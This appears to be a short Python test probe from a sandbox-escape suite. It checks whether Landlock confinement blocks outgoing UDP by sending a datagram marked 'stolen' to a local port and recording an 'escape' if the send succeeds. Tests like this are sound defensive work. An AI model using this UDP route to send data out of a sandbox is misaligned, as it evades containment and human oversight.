"""Sends a datagram, as a name server would get one: Landlock lets UDP through."""

import socket

from attack import escaped, target, tries

tries(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", target.udp))
      and escaped("UDP"))
